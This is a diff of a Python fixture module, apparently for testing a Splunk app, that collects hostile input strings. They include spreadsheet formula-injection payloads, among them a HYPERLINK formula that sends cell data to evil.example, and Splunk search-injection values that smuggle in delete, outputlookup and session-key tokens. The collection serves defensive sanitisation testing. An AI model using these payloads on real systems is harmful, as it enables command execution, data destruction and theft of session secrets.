@@ -1,26 +1,26 @@
-"""Texts that a stranger may put into a certificate, a URL, or the name of a rule or device."""
+"""Hostile texts that an attacker may put into a certificate, a URL, or the name of a rule or device."""
 
 from __future__ import annotations
 
-#: What would do harm where it is taken for more than a text.
+#: Texts that do harm where they are interpreted.
 FORMULAS = {
     "formula": "=cmd|'/c calc'!A1",
     "formula with plus": '+HYPERLINK("http://evil.example/?"&A1)',
     "formula with minus": "-1+cmd|x",
     "formula with at": "@SUM(1+1)*cmd|x",
-    "formula behind a tab": "\t=1+1",
-    "formula behind a carriage return": "\r=1+1",
-    "formula behind a line feed": "\n=1+1",
+    "formula after a tab": "\t=1+1",
+    "formula after a carriage return": "\r=1+1",
+    "formula after a line feed": "\n=1+1",
     "formula in full width": "＝1+1",
-    "formula behind percent encoding": "%3Dcmd|x",
+    "formula in percent encoding": "%3Dcmd|x",
     "formula in the next cell": '","=1+1',
 }
 SEARCHES = {
-    "search behind a quote": 'x" | delete | search "',
-    "search behind a quoted quote": 'x\\" | delete | search \\"',
-    "search behind a backslash": "x\\",
+    "search after a quote": 'x" | delete | search "',
+    "search after a quoted quote": 'x\\" | delete | search \\"',
+    "search after a backslash": "x\\",
     "subsearch": "[| makeresults | outputlookup tsid_aliases_local.csv | return $search]",
-    "subsearch behind a quote": '" [search index=_internal] "',
+    "subsearch after a quote": '" [search index=_internal] "',
     "macro": "`tsid_events`",
     "token": "$result.session_key$ $device$ $env:user$",
     "wildcard": "*",
@@ -48,5 +48,5 @@ TEMPLATES = {
 }
 HOSTILE = {**FORMULAS, **SEARCHES, **CONTROLS, **TEMPLATES}
 
-#: What no value that the app makes may start with.
+#: A value that the app writes must not start with these.
 STARTS = tuple("=+-@\t\r\n＝＋－＠")
